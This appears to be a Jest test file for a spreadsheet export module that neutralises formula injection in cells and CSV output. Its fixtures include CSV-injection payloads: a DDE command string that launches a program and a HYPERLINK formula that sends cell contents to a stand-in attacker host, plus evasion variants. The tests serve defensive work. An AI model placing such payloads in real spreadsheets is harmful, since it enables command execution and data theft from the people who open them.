import { exportCell, neutraliseFormula, toCsv } from './spreadsheet-cells';

describe('neutraliseFormula', () => {
  // Found by the attack pass (issue 16 item 12): formula text reached exports as it was entered.
  it.each([
    ["=CMD|' /C calc'!A0", "'=CMD|' /C calc'!A0"],
    [
      '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
      '\'=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    ],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\ttab first', "'\ttab first"],
    ['  =1+1', "'  =1+1"], // spaces before the sign
    ['\u3000=1+1', "'\u3000=1+1"], // an ideographic space
    ['＝1+1', "'＝1+1"], // full-width signs
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠A1', "'＠A1"],
  ])('neutralises %j', (text, safe) => {
    expect(neutraliseFormula(text)).toBe(safe);
  });

  it.each([
    ['厦门某建设工程有限公司'],
    ['Zhang San'],
    ['-500.00'], // a balance below zero stays a number
    ['+3'],
    ['12345.67'],
    ['a=b'], // a sign further in is no formula
    ['350206-P-001'],
    [''],
    ["'=already"],
  ])('leaves %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('exportCell', () => {
  it('neutralises text and keeps numbers, booleans, empties and instants', () => {
    expect(exportCell('=1+1')).toBe("'=1+1");
    expect(exportCell(-5)).toBe(-5);
    expect(exportCell(true)).toBe(true);
    expect(exportCell(null)).toBeNull();
    expect(exportCell(undefined)).toBeNull();
    expect(exportCell(new Date('2026-11-05T01:30:00Z'))).toBe('2026-11-05T01:30:00.000Z');
  });
});

describe('toCsv', () => {
  it('quotes what needs quoting and neutralises every cell', () => {
    const csv = toCsv([
      ['项目', '备注', '金额'],
      ['P-1', '=HYPERLINK("http://x","y")', -500],
      ['P-2', 'a, "b"\nc', '-500.00'],
      ['P-3', null, '@cmd'],
    ]);
    expect(csv).toBe(
      '\ufeff项目,备注,金额\r\n' +
        'P-1,"\'=HYPERLINK(""http://x"",""y"")",-500\r\n' +
        'P-2,"a, ""b""\nc",-500.00\r\n' +
        "P-3,,'@cmd\r\n",
    );
  });

  it('leaves out the byte-order mark on request', () => {
    expect(toCsv([['a']], { bom: false })).toBe('a\r\n');
  });
});
